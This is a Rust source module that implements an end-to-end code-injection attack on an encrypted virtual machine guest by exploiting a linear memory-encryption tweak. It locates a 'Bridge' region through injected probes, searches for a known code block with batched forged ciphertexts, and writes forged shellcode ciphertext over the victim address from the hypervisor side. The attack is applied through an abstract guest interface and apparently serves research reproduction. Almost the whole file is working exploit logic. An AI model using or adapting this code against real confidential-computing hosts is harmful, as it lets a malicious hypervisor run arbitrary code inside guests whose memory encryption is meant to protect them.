//! Code injection into an encrypted guest through the linear tweak.
//!
//! The attack runs in three stages, all through [`AttackSurface`]:
//!
//! 1. **Bridge search.** Inject `T(o₁), …, T(o₆₂)` where `oᵢ` are the
//!    in-page offsets of the Bridge groups. Inside the real Bridge every
//!    block then enters AES as `T(page base)`, so the 62 ciphertexts are
//!    identical. Scanning the ciphertext dump for that run reveals the
//!    Bridge physical address (BPA).
//! 2. **Characteristic Code search.** For a candidate address `cand`, the
//!    block `CC ⊕ T(bpaⱼ ⊕ cand)` at bridge slot `bpaⱼ` encrypts exactly like
//!    `CC` stored at `cand`. Each round tests 62 candidates, one per slot.
//! 3. **Injection.** Encrypt shellcode blocks in the Bridge compensated for
//!    the victim address, then copy the ciphertext over the victim.

use std::fmt::{self, Write as _};
use std::time::{Duration, Instant};

use thiserror::Error;

use crate::block::{Block, BLOCK_SIZE};
use crate::guest::{
    AttackSurface, GuestError, Shellcode, VictimStatus, BRIDGE_GROUPS, BRIDGE_LEN, PAGE_SIZE,
    SHELLCODE_LEN,
};
use crate::scenario::Scenario;
use crate::tweak::{PhysAddr, TweakError, TweakTable};

/// Candidates tested per Characteristic-Code round: one per Bridge group.
pub const BATCH_WIDTH: usize = BRIDGE_GROUPS;

#[derive(Debug, Error)]
pub enum AttackError {
    #[error("no run of {BRIDGE_GROUPS} equal ciphertext blocks at the Bridge offset")]
    BridgeNotFound,
    #[error("{} candidate Bridge locations", .0.len())]
    AmbiguousBridge(Vec<PhysAddr>),
    #[error("Characteristic Code not found after {rounds} rounds")]
    CcNotFound { rounds: usize },
    #[error("invalid attack plan: {0}")]
    InvalidPlan(String),
    #[error(transparent)]
    Guest(#[from] GuestError),
    #[error(transparent)]
    Tweak(#[from] TweakError),
}

/// What the attacker knows before touching the guest.
#[derive(Debug, Clone)]
pub struct AttackPlan {
    pub table: TweakTable,
    pub cc: Block,
    pub cc_page_offset: u64,
    /// In-page offset of the Bridge, stable across server restarts.
    pub bridge_offset: u64,
    pub shellcode: Shellcode,
}

impl AttackPlan {
    pub fn from_scenario(scenario: &Scenario, table: TweakTable) -> Self {
        AttackPlan {
            table,
            cc: scenario.cc(),
            cc_page_offset: scenario.cc_offset,
            bridge_offset: scenario.bridge_offset,
            shellcode: scenario.shellcode,
        }
    }

    pub const fn batch_width(&self) -> usize {
        BATCH_WIDTH
    }

    pub fn validate(&self) -> Result<(), AttackError> {
        let block = BLOCK_SIZE as u64;
        if !self.cc_page_offset.is_multiple_of(block) || self.cc_page_offset >= PAGE_SIZE {
            return Err(AttackError::InvalidPlan(format!(
                "cc offset {:#x} must be 16-aligned and inside a page",
                self.cc_page_offset
            )));
        }
        if !self.bridge_offset.is_multiple_of(block)
            || self.bridge_offset + BRIDGE_LEN as u64 > PAGE_SIZE
        {
            return Err(AttackError::InvalidPlan(format!(
                "bridge offset {:#x} leaves no room for {BRIDGE_GROUPS} groups",
                self.bridge_offset
            )));
        }
        Ok(())
    }
}

/// `T(o₁) ‖ … ‖ T(o₆₂)` for in-page offsets starting at `bridge_offset`.
pub fn bridge_payload(table: &TweakTable, bridge_offset: u64) -> Result<Vec<u8>, AttackError> {
    let mut out = Vec::with_capacity(BRIDGE_LEN);
    for i in 0..BRIDGE_GROUPS as u64 {
        out.extend_from_slice(&table.tweak_of_raw(bridge_offset + 16 * i)?.0);
    }
    Ok(out)
}

/// Addresses at `offset` inside any page where `BRIDGE_GROUPS` equal blocks start.
pub fn scan_bridge_runs(dump: &[u8], base: u64, offset: u64) -> Vec<PhysAddr> {
    let pages = dump.len() as u64 / PAGE_SIZE;
    (0..pages)
        .filter_map(|page| {
            let start = (page * PAGE_SIZE + offset) as usize;
            let region = dump.get(start..start + BRIDGE_LEN)?;
            let first = &region[..BLOCK_SIZE];
            region
                .chunks_exact(BLOCK_SIZE)
                .all(|b| b == first)
                .then(|| PhysAddr::new(base + start as u64).ok())
                .flatten()
        })
        .collect()
}

/// Injects the Bridge probe and returns every location showing the equal run.
pub fn find_bridge_candidates<S: AttackSurface>(
    guest: &mut S,
    plan: &AttackPlan,
) -> Result<Vec<PhysAddr>, AttackError> {
    plan.validate()?;
    guest.inject(&bridge_payload(&plan.table, plan.bridge_offset)?)?;
    let dump = guest.hv_read_cipher(PhysAddr::default(), guest.memory_size() as usize)?;
    Ok(scan_bridge_runs(&dump, 0, plan.bridge_offset))
}

pub fn find_bridge<S: AttackSurface>(
    guest: &mut S,
    plan: &AttackPlan,
) -> Result<PhysAddr, AttackError> {
    let mut found = find_bridge_candidates(guest, plan)?;
    match found.len() {
        0 => Err(AttackError::BridgeNotFound),
        1 => Ok(found.remove(0)),
        _ => Err(AttackError::AmbiguousBridge(found)),
    }
}

/// Result of the Characteristic-Code search.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct CcMatch {
    pub pcc: PhysAddr,
    pub rounds: usize,
}

/// Every page's block at `cc_page_offset`, ascending, minus the Bridge itself.
pub fn cc_candidates(page_count: u64, plan: &AttackPlan, bpa: PhysAddr) -> Vec<PhysAddr> {
    let bridge = bpa.value()..bpa.value() + BRIDGE_LEN as u64;
    (0..page_count)
        .map(|page| page * PAGE_SIZE + plan.cc_page_offset)
        .filter(|a| !bridge.contains(a))
        .filter_map(|a| PhysAddr::new(a).ok())
        .collect()
}

/// Block `j` of a search round: `CC ⊕ T((BPA + 16j) ⊕ candⱼ)`.
pub fn cc_probe_payload(
    table: &TweakTable,
    cc: Block,
    bpa: PhysAddr,
    batch: &[PhysAddr],
) -> Result<Vec<u8>, AttackError> {
    let mut out = Vec::with_capacity(batch.len() * BLOCK_SIZE);
    for (j, cand) in batch.iter().enumerate() {
        let slot = bpa.checked_add((j * BLOCK_SIZE) as u64)?;
        out.extend_from_slice(&(cc ^ table.tweak_of(slot.xor(*cand))).0);
    }
    Ok(out)
}

/// Tests `candidates` in order, [`BATCH_WIDTH`] per round.
pub fn find_cc_among<S: AttackSurface>(
    guest: &mut S,
    plan: &AttackPlan,
    bpa: PhysAddr,
    candidates: &[PhysAddr],
) -> Result<CcMatch, AttackError> {
    let mut rounds = 0;
    for batch in candidates.chunks(BATCH_WIDTH) {
        rounds += 1;
        guest.inject(&cc_probe_payload(&plan.table, plan.cc, bpa, batch)?)?;
        let bridge = guest.hv_read_cipher(bpa, batch.len() * BLOCK_SIZE)?;
        for (j, cand) in batch.iter().enumerate() {
            let c = guest.hv_read_cipher(*cand, BLOCK_SIZE)?;
            if bridge[j * BLOCK_SIZE..(j + 1) * BLOCK_SIZE] == c[..] {
                return Ok(CcMatch { pcc: *cand, rounds });
            }
        }
    }
    Err(AttackError::CcNotFound { rounds })
}

pub fn find_cc<S: AttackSurface>(
    guest: &mut S,
    plan: &AttackPlan,
    bpa: PhysAddr,
) -> Result<CcMatch, AttackError> {
    plan.validate()?;
    let candidates = cc_candidates(guest.page_count(), plan, bpa);
    find_cc_among(guest, plan, bpa, &candidates)
}

/// The three plaintext blocks that encrypt in the Bridge like the shellcode at `pcc`.
pub fn shellcode_payload(
    table: &TweakTable,
    shellcode: &Shellcode,
    bpa: PhysAddr,
    pcc: PhysAddr,
) -> Result<[u8; SHELLCODE_LEN], AttackError> {
    let mut out = [0u8; SHELLCODE_LEN];
    for k in 0..SHELLCODE_LEN / BLOCK_SIZE {
        let delta = (k * BLOCK_SIZE) as u64;
        let tweak = table.tweak_of(pcc.checked_add(delta)?.xor(bpa.checked_add(delta)?));
        out[k * BLOCK_SIZE..(k + 1) * BLOCK_SIZE].copy_from_slice(&(tweak ^ shellcode.block(k)).0);
    }
    Ok(out)
}

/// Forges the shellcode ciphertext in the Bridge and copies it over `pcc`.
///
/// Returns the 48 ciphertext bytes written.
pub fn inject_shellcode<S: AttackSurface>(
    guest: &mut S,
    plan: &AttackPlan,
    bpa: PhysAddr,
    pcc: PhysAddr,
) -> Result<[u8; SHELLCODE_LEN], AttackError> {
    guest.inject(&shellcode_payload(&plan.table, &plan.shellcode, bpa, pcc)?)?;
    let forged = guest.hv_read_cipher(bpa, SHELLCODE_LEN)?;
    guest.hv_write_cipher(pcc, &forged)?;
    Ok(forged.try_into().expect("read exactly 48 bytes"))
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum FailReason {
    BridgeNotFound,
    CcNotFound,
    Victim(VictimStatus),
    Error(String),
}

impl fmt::Display for FailReason {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            FailReason::BridgeNotFound => f.write_str("BridgeNotFound"),
            FailReason::CcNotFound => f.write_str("CcNotFound"),
            FailReason::Victim(status) => write!(f, "Victim{status}"),
            FailReason::Error(msg) => write!(f, "Error: {msg}"),
        }
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Outcome {
    ShellcodeActive,
    Failed(FailReason),
}

impl Outcome {
    pub fn is_success(&self) -> bool {
        matches!(self, Outcome::ShellcodeActive)
    }
}

impl fmt::Display for Outcome {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Outcome::ShellcodeActive => f.write_str("ShellcodeActive"),
            Outcome::Failed(reason) => write!(f, "Failed({reason})"),
        }
    }
}

#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct StageTimings {
    pub bridge: Duration,
    pub cc: Duration,
    pub inject: Duration,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AttackReport {
    pub bpa: Option<PhysAddr>,
    pub bridge_candidates: Vec<PhysAddr>,
    pub pcc: Option<PhysAddr>,
    pub cc_rounds: usize,
    pub cc_candidates: usize,
    /// Ciphertext written over the victim, if injection ran.
    pub forged: Option<[u8; SHELLCODE_LEN]>,
    pub outcome: Outcome,
    pub timings: StageTimings,
}

impl AttackReport {
    fn failed(reason: FailReason) -> Self {
        AttackReport {
            bpa: None,
            bridge_candidates: Vec::new(),
            pcc: None,
            cc_rounds: 0,
            cc_candidates: 0,
            forged: None,
            outcome: Outcome::Failed(reason),
            timings: StageTimings::default(),
        }
    }

    /// `key=value` lines. Wall-clock timings are opt-in so that reports of
    /// identical runs compare equal byte for byte.
    pub fn to_text(&self, with_timings: bool) -> String {
        let opt = |a: Option<PhysAddr>| a.map_or_else(|| "none".to_string(), |a| a.to_string());
        let mut s = String::new();
        let _ = writeln!(s, "outcome={}", self.outcome);
        let _ = writeln!(s, "bpa={}", opt(self.bpa));
        let _ = writeln!(s, "bridge_candidates={}", self.bridge_candidates.len());
        let _ = writeln!(s, "pcc={}", opt(self.pcc));
        let _ = writeln!(s, "cc_rounds={}", self.cc_rounds);
        let _ = writeln!(s, "cc_candidates={}", self.cc_candidates);
        let _ = writeln!(
            s,
            "forged={}",
            self.forged.map_or_else(|| "none".to_string(), hex::encode)
        );
        if with_timings {
            let _ = writeln!(s, "time_bridge_us={}", self.timings.bridge.as_micros());
            let _ = writeln!(s, "time_cc_us={}", self.timings.cc.as_micros());
            let _ = writeln!(s, "time_inject_us={}", self.timings.inject.as_micros());
        }
        s
    }
}

/// Bridge search, CC search and injection, then a login attempt.
///
/// When several Bridge candidates show up each is tried in address order.
pub fn run_attack<S: AttackSurface>(guest: &mut S, plan: &AttackPlan) -> AttackReport {
    if let Err(e) = plan.validate() {
        return AttackReport::failed(FailReason::Error(e.to_string()));
    }

    let started = Instant::now();
    let bridges = match find_bridge_candidates(guest, plan) {
        Ok(b) if b.is_empty() => return AttackReport::failed(FailReason::BridgeNotFound),
        Ok(b) => b,
        Err(e) => return AttackReport::failed(FailReason::Error(e.to_string())),
    };
    let mut report = AttackReport::failed(FailReason::CcNotFound);
    report.timings.bridge = started.elapsed();
    report.bridge_candidates = bridges.clone();

    for bpa in bridges {
        report.bpa = Some(bpa);
        report.pcc = None;
        report.forged = None;

        let started = Instant::now();
        let candidates = cc_candidates(guest.page_count(), plan, bpa);
        report.cc_candidates = candidates.len();
        let found = find_cc_among(guest, plan, bpa, &candidates);
        report.timings.cc += started.elapsed();
        let pcc = match found {
            Ok(m) => {
                report.cc_rounds = m.rounds;
                m.pcc
            }
            Err(AttackError::CcNotFound { rounds }) => {
                report.cc_rounds = rounds;
                report.outcome = Outcome::Failed(FailReason::CcNotFound);
                continue;
            }
            Err(e) => {
                report.outcome = Outcome::Failed(FailReason::Error(e.to_string()));
                continue;
            }
        };
        report.pcc = Some(pcc);

        let started = Instant::now();
        let injected = inject_shellcode(guest, plan, bpa, pcc);
        report.timings.inject += started.elapsed();
        match injected {
            Ok(forged) => report.forged = Some(forged),
            Err(e) => {
                report.outcome = Outcome::Failed(FailReason::Error(e.to_string()));
                continue;
            }
        }

        report.outcome = match guest.victim_check(&plan.shellcode) {
            VictimStatus::ShellcodeActive => Outcome::ShellcodeActive,
            other => Outcome::Failed(FailReason::Victim(other)),
        };
        if report.outcome.is_success() {
            break;
        }
    }
    report
}
